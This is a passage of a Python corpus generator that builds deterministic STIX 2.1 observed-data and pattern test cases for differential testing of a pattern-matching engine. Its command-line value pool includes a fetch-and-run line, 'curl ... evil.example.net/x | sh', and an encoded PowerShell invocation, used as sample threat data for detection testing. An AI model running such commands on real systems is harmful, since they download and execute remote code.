"""Corpus generator for pattern_differential.py: STIX 2.1 (pattern, observed) pairs and patterns to parse.

Everything is deterministic for a given seed: one random.Random(seed) drives the generator, and no
hash-ordered container (set, dict keyed by something unordered) is iterated. Only the standard
library is used, so the corpus can be built and inspected without the reference tools.

Vocabulary
----------
observed    The list sent to `accord pattern match` under "observed". Except for the 2.0-style cases
            it is exactly the list stix2matcher.matcher.match(pattern, observed, stix_version="2.1")
            receives. stix2-matcher 3.0.0 in 2.1 mode wants a list of bundle-like containers, each
            {"type": "bundle", "id": ..., "objects": [observed-data SDOs and SCOs]}: it deep-merges all
            list items into one dict, keeps "observed-data" objects as observations and resolves their
            object_refs against every SCO of every container (so a flat list of SDOs/SCOs, or an empty
            list, makes it raise).
2.0-style   A few cases use observed-data SDOs with the deprecated embedded "objects" dictionary
            ({"0": {...}, "1": {...}}, references by key), either as top-level list items or inside a
            bundle. stix2-matcher cannot read those in 2.1 mode, so the reference verdict is computed on
            to_reference_form(observed): the same observation rewritten as SCOs with ids and object_refs.
tags        Dotted feature names attached to each case ("op.like.not", "qual.within", "path.ref", ...).
            pattern_differential.py prints per-tag results, and its INTENTIONAL tables may excuse a
            disagreement by tag (a key "a.b" also covers "a.b.c"). Tags under "quirk." mark constructs
            where stix2-matcher or stix2-patterns is known to behave oddly (see QUIRK_TAGS).
"""

import base64
import copy
import datetime as _dt
import hashlib
import ipaddress
import json
import random
import re
import unicodedata
import uuid

# --------------------------------------------------------------------------------------------
# Tags describing known reference oddities. pattern_differential.py prints this legend; the engine
# author decides (with the STIX 2.1 clause) which of them become INTENTIONAL entries.
QUIRK_TAGS = {
    "quirk.exists-not-ignored": "stix2-matcher ignores NOT in 'NOT EXISTS path' (answers as for EXISTS)",
    "quirk.exists-in-boolean": "stix2-matcher has no EXISTS handler: inside AND/OR it raises TypeError or "
                               "answers from the wrong operand",
    "quirk.ipv6-cidr": "stix2-matcher's ISSUBSET/ISSUPERSET only parse IPv4 (inet_aton): IPv6 raises an error",
    "quirk.subset-non-ip": "ISSUBSET/ISSUPERSET on a value that is not an IPv4 address/CIDR raises an error "
                           "instead of being false",
    "quirk.issuperset-plain-ip": "ISSUPERSET needs the property to be a CIDR ('a.b.c.d/n'); a plain address "
                                 "raises an error",
    "quirk.cidr-prefix-0": "a /0 prefix is refused (error) by stix2-matcher",
    "quirk.ts-literal-vs-non-ts": "comparing a t'' literal with a string property that is not a timestamp "
                                  "raises an error instead of being false",
    "quirk.like-binary": "LIKE on a _hex/_bin property decodes the bytes as UTF-8 and raises on invalid UTF-8",
    "quirk.in-bool-int": "IN uses Python set membership, so 1 IN (true) and true IN (1) are true",
    "quirk.not-order-cross-type": "NOT <,>,<=,>= with incomparable types is false (NOT is not applied), "
                                  "while NOT = / != with incomparable types is true",
    "quirk.cross-type-neq": "!= (and NOT =) between incomparable types (int vs string, dict vs string) is true",
    "quirk.nfc-equality": "LIKE/MATCHES compare NFC-normalised strings, = / IN / ordering compare code points",
    "quirk.ts-subsecond": "timestamps are truncated to microseconds before comparison",
    "quirk.validator-hash-format": "stix2-patterns' validator rejects any comparison on a hashes.<ALGO> path whose "
                                   "literal is not a well-formed digest (also LIKE, MATCHES, IN, !=)",
    "quirk.validator-crash": "stix2-patterns' validator raises (e.g. on a negative list index or an empty "
                             "pattern); its grammar-only parser decides instead",
    "quirk.duplicate-qualifier": "the validator rejects two qualifiers of one kind on the same expression "
                                 "('... WITHIN 5 SECONDS WITHIN 9 SECONDS'); stix2-matcher evaluates it",
    "quirk.zero-qualifier": "WITHIN 0 SECONDS / REPEATS 0 TIMES pass the validator but stix2-matcher raises",
    "quirk.feb30": "t'2021-02-30T...' and second 60 pass the grammar and the validator; stix2-matcher raises",
    "quirk.set-mixed-types": "a set literal mixing types passes the validator; stix2-matcher raises",
    "quirk.ref-raw": "a *_ref property is always dereferenced, so comparing it with the id string is false",
    "quirk.empty-observed": "an empty observed list makes stix2-matcher raise (it wants at least one bundle)",
    "quirk.validator-empty-base64": "stix2-patterns rejects b'' (empty binary) but accepts h'' (empty hex)",
}

# Features the corpus must cover (pattern_differential.py checks this). The flag says whether both a
# true and a false reference verdict are required among the pairs carrying the tag.
REQUIRED_FEATURES = [
    ("op.eq", True), ("op.eq.not", True), ("op.neq", True), ("op.neq.not", True),
    ("op.lt", True), ("op.lt.not", True), ("op.gt", True), ("op.gt.not", True),
    ("op.le", True), ("op.le.not", True), ("op.ge", True), ("op.ge.not", True),
    ("op.in", True), ("op.in.not", True), ("op.like", True), ("op.like.not", True),
    ("op.matches", True), ("op.matches.not", True), ("op.issubset", True), ("op.issubset.not", True),
    ("op.issuperset", True), ("op.issuperset.not", True), ("op.exists", True), ("op.exists.not", False),
    ("cmp.and", True), ("cmp.or", True), ("cmp.paren", True), ("cmp.mixed-precedence", True),
    ("obs.and", True), ("obs.or", True), ("obs.followedby", True), ("obs.paren", True),
    ("obs.mixed-precedence", True),
    ("qual.within", True), ("qual.within.float", True), ("qual.repeats", True), ("qual.startstop", True),
    ("qual.combo", True), ("qual.on-group", True),
    ("lit.string", True), ("lit.string.escaped-quote", True), ("lit.string.escaped-backslash", True),
    ("lit.int", True), ("lit.int.negative", True), ("lit.float", True), ("lit.float.negative", True),
    ("lit.bool", True), ("lit.timestamp", True), ("lit.hex", True), ("lit.binary", True), ("lit.set", True),
    ("path.nested", True), ("path.index", True), ("path.index-star", True), ("path.quoted-key", True),
    ("path.ref", True), ("path.refs", True), ("path.hex-prop", True), ("path.bin-prop", True),
    ("path.missing", False),
    ("cidr.ipv4", True), ("cidr.ipv6", False),
    ("observed.multi-od", True), ("observed.number-observed-gt-1", True), ("observed.multi-type", True),
    ("observed.multi-bundle", True), ("observed.embedded-objects", True),
    ("spec.example", True),
] + [("type." + t, True) for t in (
    "ipv4-addr", "ipv6-addr", "domain-name", "url", "file", "email-addr", "email-message", "network-traffic",
    "process", "user-account", "windows-registry-key", "x509-certificate", "mac-addr", "autonomous-system",
    "software", "directory", "artifact")]

# --------------------------------------------------------------------------------------------
# Value pools (realistic, small, so that generated values repeat across observations)

IPV4 = ["198.51.100.1", "198.51.100.77", "198.51.100.254", "203.0.113.33", "203.0.113.200", "192.0.2.10",
        "10.0.0.5", "10.20.30.40", "172.16.254.1", "192.168.1.100"]
IPV4_CIDR = ["198.51.100.0/24", "203.0.113.32/27", "10.0.0.0/8", "192.0.2.0/25", "203.0.113.33/32"]
IPV6 = ["2001:db8::1", "2001:db8:dead:beef:dead:beef:dead:1", "2001:0db8:dead:beef:dead:beef:dead:0001",
        "fe80::1ff:fe23:4567:890a", "2001:db8:85a3::8a2e:370:7334", "::1"]
IPV6_CIDR = ["2001:db8::/32", "2001:0db8:dead:beef:0000:0000:0000:0000/64", "fe80::/10"]
MACS = ["d2:fb:49:24:37:18", "00:00:5e:00:53:01", "a4:5e:60:c2:1b:7f"]
DOMAINS = ["example.com", "www.example.com", "mail.example.org", "evil.example.net", "cdn.example.co.uk",
           "www.5z8.info", "xn--bcher-kva.example"]
URLS = ["http://example.com/foo", "http://example.com/bar", "https://www.example.com/login?user=1&next=%2Fhome",
        "http://evil.example.net/payload.exe", "ftp://files.example.org/pub/readme.txt",
        "https://cdn.example.co.uk/js/app_v2.min.js"]
FILE_NAMES = ["foo.dll", "pdf.exe", "Final Report Q3.exe", "invoice_2023.pdf", "readme.txt", "O'Brien's notes.doc",
              "back\\slash.bat", "r\u00e9sum\u00e9.docx", "re\u0301sume\u0301.pdf", "100%_legit.scr", "setup.msi",
              "kernel32.dll", "a"]
DIR_PATHS = ["C:\\Windows\\System32", "C:\\Users\\Public\\Downloads", "/usr/local/bin", "/tmp",
             "/home/o'neil/.cache"]
MIME = ["application/x-pdf", "application/pdf", "image/bmp", "application/zip", "text/plain",
        "application/vnd.microsoft.portable-executable"]
EMAILS = ["jdoe@example.com", "alice@example.org", "bob.smith@mail.example.net", "security@example.com",
          "mallory@evil.example.net"]
DISPLAY = ["John Doe", "Alice Example", "Bob Smith", "S\u00e9curit\u00e9", "Mallory O'Hara"]
SUBJECTS = ["Conference Info", "Invoice #4711", "Re: Peter's report", "Urgent: update your password",
            "\u00dcberweisung 100%", "[EXT] Q3 numbers"]
REG_KEYS = ["HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
            "HKEY_CURRENT_USER\\Software\\CryptoLocker\\Files", "HKEY_LOCAL_MACHINE\\foo\\bar",
            "HKEY_CURRENT_USER\\Software\\Microsoft\\CurrentVersion\\Run\\CryptoLocker_0388"]
CMDLINES = ["C:\\Windows\\System32\\cmd.exe /c whoami", "powershell.exe -nop -enc SQBFAFgA",
            "/bin/sh -c \"curl -s http://evil.example.net/x | sh\"", "certutil.exe -addstore -f Root GlobalSign.cer",
            "C:\\Tools\\>-add GlobalSign.cer -c -s -r localMachine Root", "python3 -c 'print(1)'"]
LOGINS = ["Peter", "Paul", "Mary", "root", "svc_backup", "jdoe"]
USER_IDS = ["1007", "1008", "1009", "0", "S-1-5-21-1004336348-1177238915-682003330-512"]
ACCOUNT_TYPES = ["unix", "windows-local", "windows-domain", "ldap"]
ISSUERS = ["CN=WEBMAIL", "C=US, O=Example Trust, CN=Example Root CA",
           "C=ZA, ST=Western Cape, L=Cape Town, O=Thawte Consulting cc, CN=Thawte Server CA"]
SERIALS = ["4c:0b:1d:19:74:86:a7:66:b4:1a:bf:40:27:21:76:28",
           "36:f7:d4:32:f4:ab:70:ea:d3:ce:98:6e:ea:99:93:49:32:0a:b7:06", "01"]
AS_NAMES = ["Slime Industries", "Example Transit", "ACME Backbone"]
AS_NUMBERS = [15139, 64496, 65551, 3356, 4200000000]
RIRS = ["ARIN", "RIPE NCC", "APNIC"]
SOFTWARE = [("Word", "Microsoft", "2002", "cpe:2.3:a:microsoft:word:2000:*:*:*:*:*:*:*"),
            ("Acrobat Reader", "Adobe", "11.0.23", "cpe:2.3:a:adobe:acrobat_reader:11.0.23:*:*:*:*:*:*:*"),
            ("OpenSSH", "OpenBSD", "8.9p1", "cpe:2.3:a:openbsd:openssh:8.9:p1:*:*:*:*:*:*")]
PROTOCOLS = [["ipv4", "tcp"], ["ipv4", "tcp", "http"], ["ipv4", "tcp", "ssl", "http"], ["ipv6", "udp", "dns"],
             ["ipv4", "udp"]]
PORTS = [22, 25, 53, 80, 443, 4444, 8080, 8443, 49152]
MAGIC = ["ffd8", "4d5a", "25504446", "504b0304", "FFD8FFE0", "7f454c46"]
PAYLOADS = [bytes.fromhex("d4c3b2a1020004000000"), b"MZ\x90\x00\x03\x00\x00\x00", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3",
            b"hello world", bytes.fromhex("fffefdfc8081"), b"PK\x03\x04\x14\x00"]
USER_AGENTS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "curl/7.88.1", "python-requests/2.31"]
HTTP_PATHS = ["/download.html", "/index.php?id=1", "/wp-login.php", "/"]
ENV_PATHS = ["C:\\Windows\\system32;C:\\Windows", "/usr/local/bin:/usr/bin:/bin"]
SECTION_NAMES = [".text", ".rdata", ".rsrc", "UPX0"]


def _digests(alg, n, extra=()):
    out = list(extra)
    for i in range(n):
        out.append(hashlib.new(alg, ("accord-pattern-pool-%d" % i).encode()).hexdigest())
    return out


MD5S = _digests("md5", 6, ["cead3f77f6cda6ec00f57d76c9a6879f", "79054025255fb1a26e4bc422aef54eb4"])
SHA1S = _digests("sha1", 6)
SHA256S = _digests("sha256", 6, ["aec070645fe53ee3b3763059376134f058cc337247c978add178b6ccdfb0019f",
                                 "bf07a7fbb825fc0aae7bf4a1177b2b31fcf8a3feeaf7092761e18c859ee52a9c"])

TS_RE = re.compile(r"^(\d{4})-(\d{2})-(\d{2})T(\d{2}):(\d{2}):(\d{2})(\.\d+)?Z$")
SIMPLE_KEY = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*$")
UUID_NS = uuid.UUID("7b0b3f43-3d1d-4c56-9a7e-6a1f2c0d5e11")


# --------------------------------------------------------------------------------------------
# Small helpers

def _uuid(rng):
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def wchoice(rng, pairs):
    """Weighted choice from [(value, weight), ...]."""
    total = sum(w for _, w in pairs)
    x = rng.random() * total
    for v, w in pairs:
        x -= w
        if x < 0:
            return v
    return pairs[-1][0]


def fmt_ts(t, style):
    """Render a naive-UTC datetime as a STIX timestamp; style is '', 'ms', 'us' or 'ms0'."""
    base = t.strftime("%Y-%m-%dT%H:%M:%S")
    if style == "ms":
        return base + ".%03dZ" % (t.microsecond // 1000)
    if style == "us":
        return base + ".%06dZ" % t.microsecond
    if style == "ms0":
        return base + ".000Z"
    return base + "Z"


def parse_ts(s):
    m = TS_RE.match(s) if isinstance(s, str) else None
    if not m:
        return None
    try:
        frac = m.group(7) or ""
        us = int((frac[1:] + "000000")[:6]) if frac else 0
        return _dt.datetime(int(m.group(1)), int(m.group(2)), int(m.group(3)), int(m.group(4)),
                            int(m.group(5)), int(m.group(6)), us)
    except ValueError:
        return None


def lit_str(s):
    return "'" + s.replace("\\", "\\\\").replace("'", "\\'") + "'"


def fmt_float(x):
    s = repr(float(x))
    if "e" in s or "E" in s:
        s = ("%.12f" % x).rstrip("0")
        if s.endswith("."):
            s += "0"
    if "." not in s:
        s += ".0"
    return s


def lit_ts(t, style=None):
    return "t'" + fmt_ts(t, style if style is not None else ("" if t.microsecond == 0 else "us")) + "'"


def rx_escape(s):
    out = []
    for c in s:
        if c in "\\.^$|?*+()[]{}":
            out.append("\\" + c)
        else:
            out.append(c)
    return "".join(out)


def is_digest(s):
    return isinstance(s, str) and len(s) in (32, 40, 64, 128) and re.fullmatch(r"[0-9a-fA-F]+", s) is not None


def str_tags(s):
    tags = ["lit.string"]
    if "'" in s:
        tags.append("lit.string.escaped-quote")
    if "\\" in s:
        tags.append("lit.string.escaped-backslash")
    if any(ord(c) > 127 for c in s):
        tags.append("lit.string.unicode")
    return tags


def mutate_str(rng, s):
    """A string close to s but different from it."""
    choices = []
    if s:
        c = s[-1]
        choices.append(s[:-1] + (chr(ord(c) + 1) if c not in "\U0010ffff" else "a"))
        choices.append("x" + s)
        if s.swapcase() != s:
            choices.append(s.swapcase())
        choices.append(s + " ")
        if len(s) > 2:
            choices.append(s[1:])
    else:
        choices.append("x")
    return rng.choice(choices)


# --------------------------------------------------------------------------------------------
# SCO factories. Each returns the object; referenced objects are created through b.ref().

class Builder:
    """Creates the SCOs of one observation (a root object and everything it references)."""

    def __init__(self, rng, t0):
        self.rng = rng
        self.t0 = t0
        self.objects = []

    def new_id(self, t):
        return "%s--%s" % (t, _uuid(self.rng))

    def make(self, t, depth=2):
        obj = FACTORIES[t](self, depth)
        self.objects.append(obj)
        return obj

    def ref(self, t, depth):
        return self.make(t, depth - 1)["id"]

    def ts(self):
        r = self.rng
        t = self.t0 + _dt.timedelta(days=r.randint(-400, 30), seconds=r.randint(0, 86399),
                                    microseconds=r.choice([0, 0, 0, 123000, 500000, 123456]))
        if r.random() < 0.04:
            # more digits than microseconds (stix2-matcher truncates them)
            return t.strftime("%Y-%m-%dT%H:%M:%S") + ".%06d%s" % (t.microsecond, r.choice(["7", "9", "001"])) + "Z"
        style = "" if t.microsecond == 0 else r.choice(["ms", "us"]) if t.microsecond % 1000 == 0 else "us"
        return fmt_ts(t, style)

    def base(self, t):
        return {"type": t, "spec_version": "2.1", "id": self.new_id(t)}


def f_ipv4(b, depth):
    r = b.rng
    o = b.base("ipv4-addr")
    o["value"] = r.choice(IPV4_CIDR) if r.random() < 0.15 else r.choice(IPV4)
    if depth > 0 and r.random() < 0.25:
        o["resolves_to_refs"] = [b.ref("mac-addr", depth)]
    if depth > 0 and r.random() < 0.15:
        o["belongs_to_refs"] = [b.ref("autonomous-system", depth)]
    return o


def f_ipv6(b, depth):
    r = b.rng
    o = b.base("ipv6-addr")
    o["value"] = r.choice(IPV6_CIDR) if r.random() < 0.15 else r.choice(IPV6)
    return o


def f_mac(b, depth):
    o = b.base("mac-addr")
    o["value"] = b.rng.choice(MACS)
    return o


def f_domain(b, depth):
    r = b.rng
    o = b.base("domain-name")
    o["value"] = r.choice(DOMAINS)
    if depth > 0 and r.random() < 0.5:
        o["resolves_to_refs"] = [b.ref(r.choice(["ipv4-addr", "ipv4-addr", "ipv6-addr"]), depth)
                                 for _ in range(r.randint(1, 3))]
    return o


def f_url(b, depth):
    o = b.base("url")
    o["value"] = b.rng.choice(URLS)
    return o


def f_directory(b, depth):
    r = b.rng
    o = b.base("directory")
    o["path"] = r.choice(DIR_PATHS)
    if r.random() < 0.5:
        o["ctime"] = b.ts()
    return o


def f_file(b, depth):
    r = b.rng
    o = b.base("file")
    hashes = {}
    if r.random() < 0.8:
        hashes["SHA-256"] = r.choice(SHA256S)
    if r.random() < 0.6:
        hashes["MD5"] = r.choice(MD5S)
    if r.random() < 0.3:
        hashes["SHA-1"] = r.choice(SHA1S)
    if hashes:
        o["hashes"] = hashes
    o["name"] = r.choice(FILE_NAMES)
    if r.random() < 0.7:
        o["size"] = r.choice([0, 1024, 2048, 371712, 65536, 123, 4294967296])
    if r.random() < 0.5:
        o["mime_type"] = r.choice(MIME)
    if r.random() < 0.35:
        o["magic_number_hex"] = r.choice(MAGIC)
    if r.random() < 0.4:
        o["ctime"] = b.ts()
    if r.random() < 0.2:
        o["mtime"] = b.ts()
    if depth > 0 and r.random() < 0.35:
        o["parent_directory_ref"] = b.ref("directory", depth)
    if r.random() < 0.25:
        o["extensions"] = {"windows-pebinary-ext": {
            "pe_type": r.choice(["exe", "dll"]),
            "number_of_sections": 0,
            "sections": [{"name": r.choice(SECTION_NAMES), "entropy": r.choice([7.2, 3.1, 6.999, 7.0, 0.5]),
                          "size": r.choice([512, 1024, 4096])} for _ in range(r.randint(1, 3))]}}
        o["extensions"]["windows-pebinary-ext"]["number_of_sections"] = \
            len(o["extensions"]["windows-pebinary-ext"]["sections"])
    if r.random() < 0.1:
        o["x_tz_offset_minutes"] = r.choice([-300, -60, 0, 120, 330])
    return o


def f_email_addr(b, depth):
    r = b.rng
    o = b.base("email-addr")
    o["value"] = r.choice(EMAILS)
    if r.random() < 0.5:
        o["display_name"] = r.choice(DISPLAY)
    return o


def f_artifact(b, depth):
    r = b.rng
    o = b.base("artifact")
    o["mime_type"] = r.choice(["application/vnd.tcpdump.pcap", "application/zip", "application/octet-stream"])
    if r.random() < 0.8:
        payload = r.choice(PAYLOADS)
        o["payload_bin"] = base64.b64encode(payload).decode()
        if r.random() < 0.4:
            o["hashes"] = {"SHA-256": hashlib.sha256(payload).hexdigest()}
    else:
        o["url"] = r.choice(URLS)
        o["hashes"] = {"SHA-256": r.choice(SHA256S)}
    return o


def f_email_message(b, depth):
    r = b.rng
    o = b.base("email-message")
    multipart = r.random() < 0.5
    o["is_multipart"] = multipart
    if r.random() < 0.7:
        o["date"] = b.ts()
    o["subject"] = r.choice(SUBJECTS)
    if depth > 0:
        o["from_ref"] = b.ref("email-addr", depth)
        if r.random() < 0.3:
            o["sender_ref"] = b.ref("email-addr", depth)
        o["to_refs"] = [b.ref("email-addr", depth) for _ in range(r.randint(1, 3))]
        if r.random() < 0.3:
            o["cc_refs"] = [b.ref("email-addr", depth)]
    if multipart:
        parts = [{"content_type": "text/plain; charset=utf-8", "body": "Please see the attached report."}]
        if depth > 0:
            for _ in range(r.randint(1, 2)):
                parts.append({"content_type": "application/octet-stream",
                              "content_disposition": "attachment; filename=\"report.exe\"",
                              "body_raw_ref": b.ref(r.choice(["file", "file", "artifact"]), depth)})
        o["body_multipart"] = parts
    else:
        o["body"] = "Hello,\nthe agenda is attached.\n-- \nJ."
    if r.random() < 0.3:
        o["additional_header_fields"] = {"X-Mailer": r.choice(["Microsoft Outlook 16.0", "Mutt/2.2"]),
                                         "Reply-To": r.choice(EMAILS)}
    return o


def f_network_traffic(b, depth):
    r = b.rng
    o = b.base("network-traffic")
    if depth > 0:
        o["src_ref"] = b.ref(r.choice(["ipv4-addr", "ipv4-addr", "ipv6-addr"]), depth)
        if r.random() < 0.85:
            o["dst_ref"] = b.ref(r.choice(["ipv4-addr", "ipv4-addr", "ipv6-addr", "domain-name"]), depth)
    o["src_port"] = r.choice([49152, 51515, 60000, 1025])
    o["dst_port"] = r.choice(PORTS)
    o["protocols"] = list(r.choice(PROTOCOLS))
    if r.random() < 0.5:
        o["start"] = b.ts()
    if r.random() < 0.3:
        o["is_active"] = r.random() < 0.5
    if r.random() < 0.5:
        o["src_byte_count"] = r.choice([0, 147, 4096, 1000000])
        o["dst_packets"] = r.choice([1, 2, 10])
    if r.random() < 0.2:
        o["extensions"] = {"http-request-ext": {
            "request_method": r.choice(["get", "post"]), "request_value": r.choice(HTTP_PATHS),
            "request_version": "http/1.1",
            "request_header": {"Host": r.choice(DOMAINS), "User-Agent": r.choice(USER_AGENTS)}}}
    if r.random() < 0.1:
        o["x_rtt_delta_ms"] = r.choice([-12, -1, 3, 40])
    return o


def f_process(b, depth):
    r = b.rng
    o = b.base("process")
    o["pid"] = r.choice([4, 1221, 2, 31337, 65535])
    o["command_line"] = r.choice(CMDLINES)
    if r.random() < 0.4:
        o["cwd"] = r.choice(DIR_PATHS)
    if r.random() < 0.5:
        o["created_time"] = b.ts()
    if r.random() < 0.3:
        o["is_hidden"] = r.random() < 0.5
    if r.random() < 0.3:
        o["environment_variables"] = {"PATH": r.choice(ENV_PATHS), "TEMP": r.choice(["C:\\Temp", "/tmp"])}
    if depth > 0 and r.random() < 0.4:
        o["image_ref"] = b.ref("file", depth)
    if depth > 0 and r.random() < 0.3:
        o["creator_user_ref"] = b.ref("user-account", depth)
    if depth > 1 and r.random() < 0.15:
        o["parent_ref"] = b.ref("process", depth - 1)
    if r.random() < 0.15:
        o["x_tz_offset_minutes"] = r.choice([-300, -60, 0, 120, 330])
    return o


def f_user_account(b, depth):
    r = b.rng
    o = b.base("user-account")
    o["user_id"] = r.choice(USER_IDS)
    o["account_login"] = r.choice(LOGINS)
    o["account_type"] = r.choice(ACCOUNT_TYPES)
    if r.random() < 0.5:
        o["display_name"] = r.choice(DISPLAY)
    if r.random() < 0.6:
        o["is_privileged"] = r.random() < 0.5
    if r.random() < 0.3:
        o["is_service_account"] = r.random() < 0.5
    if r.random() < 0.5:
        o["account_created"] = b.ts()
    return o


def f_registry(b, depth):
    r = b.rng
    o = b.base("windows-registry-key")
    o["key"] = r.choice(REG_KEYS)
    if r.random() < 0.6:
        o["values"] = [{"name": r.choice(["Foo", "Bar", "", "Updater"]),
                        "data": r.choice(["qwerty", "42", "C:\\x.exe"]),
                        "data_type": r.choice(["REG_SZ", "REG_DWORD", "REG_EXPAND_SZ"])}
                       for _ in range(r.randint(1, 2))]
    if r.random() < 0.5:
        o["modified_time"] = b.ts()
    if r.random() < 0.4:
        o["number_of_subkeys"] = r.choice([0, 1, 12])
    return o


def f_x509(b, depth):
    r = b.rng
    o = b.base("x509-certificate")
    o["is_self_signed"] = r.random() < 0.3
    if r.random() < 0.6:
        o["hashes"] = {"SHA-256": r.choice(SHA256S)}
    o["version"] = "3"
    o["serial_number"] = r.choice(SERIALS)
    o["issuer"] = r.choice(ISSUERS)
    o["subject"] = r.choice(ISSUERS + ["CN=www.example.com"])
    o["validity_not_before"] = b.ts()
    o["validity_not_after"] = b.ts()
    if r.random() < 0.5:
        o["subject_public_key_algorithm"] = "rsaEncryption"
        o["subject_public_key_exponent"] = 65537
    if r.random() < 0.3:
        o["x509_v3_extensions"] = {"basic_constraints": "critical,CA:TRUE", "key_usage": "digitalSignature"}
    return o


def f_as(b, depth):
    r = b.rng
    o = b.base("autonomous-system")
    o["number"] = r.choice(AS_NUMBERS)
    if r.random() < 0.7:
        o["name"] = r.choice(AS_NAMES)
    if r.random() < 0.5:
        o["rir"] = r.choice(RIRS)
    return o


def f_software(b, depth):
    r = b.rng
    name, vendor, version, cpe = r.choice(SOFTWARE)
    o = b.base("software")
    o["name"] = name
    o["cpe"] = cpe
    o["vendor"] = vendor
    o["version"] = version
    if r.random() < 0.5:
        o["languages"] = r.choice([["eng"], ["eng", "fra"], ["deu", "eng", "jpn"]])
    return o


def f_custom(b, depth):
    r = b.rng
    o = b.base("x-acme-sensor")
    o["reading"] = r.choice([-12, -1, 0, 7, 1500])
    o["ratio"] = r.choice([-0.25, 0.5, 0.75, 1.0])
    o["labels"] = r.choice([["alpha"], ["alpha", "beta"], ["beta", "gamma", "delta"]])
    o["x_nested"] = {"level1": {"level2": [r.choice([1, 2, 3]), r.choice([4, 5])], "flag": r.random() < 0.5}}
    return o


FACTORIES = {
    "ipv4-addr": f_ipv4, "ipv6-addr": f_ipv6, "mac-addr": f_mac, "domain-name": f_domain, "url": f_url,
    "directory": f_directory, "file": f_file, "email-addr": f_email_addr, "artifact": f_artifact,
    "email-message": f_email_message, "network-traffic": f_network_traffic, "process": f_process,
    "user-account": f_user_account, "windows-registry-key": f_registry, "x509-certificate": f_x509,
    "autonomous-system": f_as, "software": f_software, "x-acme-sensor": f_custom,
}

ROOT_TYPES = [("file", 14), ("network-traffic", 12), ("ipv4-addr", 8), ("domain-name", 7), ("url", 5),
              ("email-message", 7), ("process", 8), ("user-account", 6), ("windows-registry-key", 5),
              ("x509-certificate", 4), ("ipv6-addr", 4), ("mac-addr", 2), ("autonomous-system", 2),
              ("software", 3), ("directory", 2), ("artifact", 4), ("email-addr", 3), ("x-acme-sensor", 3)]


# --------------------------------------------------------------------------------------------
# Worlds: observations and the containers they are sent in

class Observation:
    def __init__(self, od_id, first, last, n, objects, first_style="", last_style=""):
        self.od_id = od_id
        self.first = first
        self.last = last
        self.n = n
        self.objects = objects
        self.first_style = first_style
        self.last_style = last_style
        self.by_id = {o["id"]: o for o in objects}

    def od(self):
        return {"type": "observed-data", "spec_version": "2.1", "id": self.od_id,
                "created": "2024-01-01T00:00:00.000Z", "modified": "2024-01-01T00:00:00.000Z",
                "first_observed": fmt_ts(self.first, self.first_style),
                "last_observed": fmt_ts(self.last, self.last_style),
                "number_observed": self.n, "object_refs": [o["id"] for o in self.objects]}


class World:
    def __init__(self, rng, observations, style="bundle"):
        self.rng = rng
        self.observations = observations
        self.style = style
        self.bundle_ids = [_uuid(rng) for _ in range(max(2, len(observations)))]
        self.scos_first = rng.random() < 0.1

    def tags(self):
        t = []
        if len(self.observations) > 1:
            t.append("observed.multi-od")
        if any(o.n > 1 for o in self.observations):
            t.append("observed.number-observed-gt-1")
        if any(len(set(x["type"] for x in o.objects)) > 1 for o in self.observations):
            t.append("observed.multi-type")
        if self.style in ("bundles", "split"):
            t.append("observed.multi-bundle")
        if self.style == "split":
            t.append("observed.cross-bundle")
        if self.style.startswith("embedded"):
            t.append("observed.embedded-objects")
            t.append("observed." + self.style)
        return t

    def observed(self):
        obs = self.observations
        if self.style == "bundle":
            objs = []
            if self.scos_first:
                for o in obs:
                    objs.extend(copy.deepcopy(o.objects))
                objs.extend(o.od() for o in obs)
            else:
                for o in obs:
                    objs.append(o.od())
                    objs.extend(copy.deepcopy(o.objects))
            return [{"type": "bundle", "id": "bundle--" + self.bundle_ids[0], "objects": objs}]
        if self.style == "bundles":
            return [{"type": "bundle", "id": "bundle--" + self.bundle_ids[i],
                     "objects": [o.od()] + copy.deepcopy(o.objects)} for i, o in enumerate(obs)]
        if self.style == "split":
            return [{"type": "bundle", "id": "bundle--" + self.bundle_ids[0], "objects": [o.od() for o in obs]},
                    {"type": "bundle", "id": "bundle--" + self.bundle_ids[1],
                     "objects": [copy.deepcopy(x) for o in obs for x in o.objects]}]
        # 2.0-style: embedded "objects" dictionaries with local keys
        sdos = [embed_observation(o.od(), o.objects) for o in obs]
        if self.style == "embedded-bundle":
            return [{"type": "bundle", "id": "bundle--" + self.bundle_ids[0], "objects": sdos}]
        return sdos


def _rewrite_refs(value, mapping):
    """Copy of value with every *_ref / *_refs string rewritten through mapping (unknown refs kept)."""
    if isinstance(value, dict):
        out = {}
        for k, v in value.items():
            if k.endswith("_ref") and isinstance(v, str):
                out[k] = mapping.get(v, v)
            elif k.endswith("_refs") and isinstance(v, list):
                out[k] = [mapping.get(x, x) if isinstance(x, str) else x for x in v]
            else:
                out[k] = _rewrite_refs(v, mapping)
        return out
    if isinstance(value, list):
        return [_rewrite_refs(v, mapping) for v in value]
    return value


def embed_observation(od, objects):
    """A 2.1 observed-data + SCOs as one observed-data with a 2.0-style embedded objects dictionary."""
    keys = {o["id"]: str(i) for i, o in enumerate(objects)}
    sdo = {k: v for k, v in od.items() if k != "object_refs"}
    emb = {}
    for o in objects:
        x = _rewrite_refs(o, keys)
        x.pop("id", None)
        x.pop("spec_version", None)
        emb[keys[o["id"]]] = x
    sdo["objects"] = emb
    return sdo


def _unembed(sdo):
    """observed-data with embedded objects -> (observed-data with object_refs, [SCOs])."""
    emb = sdo.get("objects")
    keys = list(emb.keys())
    mapping = {}
    for k in keys:
        o = emb[k]
        t = o.get("type", "x-unknown") if isinstance(o, dict) else "x-unknown"
        mapping[k] = "%s--%s" % (t, uuid.uuid5(UUID_NS, "%s/%s" % (sdo.get("id", ""), k)))
    scos = []
    for k in keys:
        o = emb[k]
        if not isinstance(o, dict):
            continue
        x = _rewrite_refs(o, mapping)
        x["id"] = mapping[k]
        x.setdefault("spec_version", "2.1")
        scos.append(x)
    od = {k: v for k, v in sdo.items() if k != "objects"}
    od["object_refs"] = [mapping[k] for k in keys]
    return od, scos


def _is_embedded(x):
    return (isinstance(x, dict) and x.get("type") == "observed-data" and isinstance(x.get("objects"), dict)
            and "object_refs" not in x)


def to_reference_form(observed):
    """What stix2matcher (2.1) is given for `observed`: 2.0-style embedded objects rewritten as a bundle
    of SCOs with ids and object_refs; anything else is returned unchanged (a deep copy)."""
    if not isinstance(observed, list):
